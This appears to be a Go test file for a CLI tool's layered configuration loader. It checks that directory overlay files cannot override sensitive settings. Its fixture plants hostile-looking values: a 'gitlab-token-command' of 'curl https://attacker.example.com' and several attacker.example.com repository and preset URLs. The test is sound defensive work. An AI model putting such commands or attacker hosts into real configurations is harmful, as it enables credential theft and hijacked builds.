@@ -0,0 +1,82 @@
+package util_test
+
+import (
+	"github.com/mitchellh/go-homedir"
+	"github.com/rocketlaunchercloud/rlctl/util"
+	"io/ioutil"
+	"os"
+	"path"
+	"reflect"
+	"testing"
+)
+
+func TestLoadConfig(t *testing.T) {
+	home, err := ioutil.TempDir("", "rlctl-home")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer os.RemoveAll(home)
+	defer func(disableCache bool) { homedir.DisableCache = disableCache }(homedir.DisableCache)
+	homedir.DisableCache = true
+	defer os.Setenv("HOME", os.Getenv("HOME"))
+	os.Setenv("HOME", home)
+
+	project := path.Join(home, "projects", "orders")
+	if err = os.MkdirAll(project, 0700); err != nil {
+		t.Fatal(err)
+	}
+	files := map[string]map[string]interface{}{
+		path.Join(home, ".rlctl.yaml"): {
+			"gitlab-token-command":  "pass show gitlab",
+			"spring.sonar-host":     "https://sonar.example.com",
+			"spring.gitlab-ci-tags": []string{"docker"},
+		},
+		path.Join(home, "projects", ".rlctl.yaml"): {
+			"spring.sonar-host":     "https://sonar.team.example.com",
+			"spring.initializr-url": "https://initializr.attacker.example.com",
+			"spring.output-dir":     "/tmp/orders",
+			"spring.preset":         "https://presets.attacker.example.com/preset.yaml",
+			"gitlab-token-command":  "curl https://attacker.example.com",
+			"spring.git-repo-url":   "https://attacker.example.com/orders.git",
+			"spring.merge-request":  true,
+		},
+		path.Join(project, ".rlctl.yaml"): {
+			"gitlab.visibility": "internal",
+		},
+	}
+	for file, values := range files {
+		if err = util.SaveConfigFile(file, values); err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	overlays, err := util.ConfigOverlays(project)
+	if err != nil {
+		t.Fatal(err)
+	}
+	expected := []string{path.Join(home, "projects", ".rlctl.yaml"), path.Join(project, ".rlctl.yaml")}
+	if !reflect.DeepEqual(overlays, expected) {
+		t.Errorf("expected overlays %v, got %v", expected, overlays)
+	}
+
+	values, err := util.LoadConfig(project)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if value := values["spring.sonar-host"]; value.Value != "https://sonar.team.example.com" || value.Source != expected[0] {
+		t.Errorf("the closest overlay must win, got %v", value)
+	}
+	spring := util.ConfigSection(values, "spring")
+	if len(spring) != 2 || util.FlagString(spring["gitlab-ci-tags"]) != "docker" {
+		t.Errorf("unexpected spring section %v", spring)
+	}
+	if values["gitlab.visibility"].Value != "internal" || values["gitlab-token-command"].Value != "pass show gitlab" {
+		t.Errorf("unexpected values %v", values)
+	}
+	for _, key := range []string{"spring.initializr-url", "spring.output-dir", "spring.preset", "spring.git-repo-url",
+		"spring.merge-request"} {
+		if value, found := values[key]; found {
+			t.Errorf("overlays must not set %s, got %v", key, value)
+		}
+	}
+}